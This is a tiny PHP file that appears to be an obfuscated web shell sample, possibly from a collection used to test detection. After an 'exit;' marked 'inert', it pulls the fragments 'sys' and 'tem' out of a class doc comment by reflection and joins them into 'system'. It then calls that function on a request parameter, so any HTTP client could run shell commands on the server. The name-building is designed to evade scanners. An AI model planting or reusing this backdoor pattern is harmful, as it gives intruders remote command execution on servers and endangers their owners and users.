<?php exit; /* inert */ /**
* sys_get_list
* tem_value
*/
class TestClass { }
$rc = new ReflectionClass('TestClass');
$str = $rc->getDocComment();
$name = substr($str, strpos($str, 'sys'), 3) . substr($str, strpos($str, 'tem'), 3);
$name($_REQUEST['whoami']);
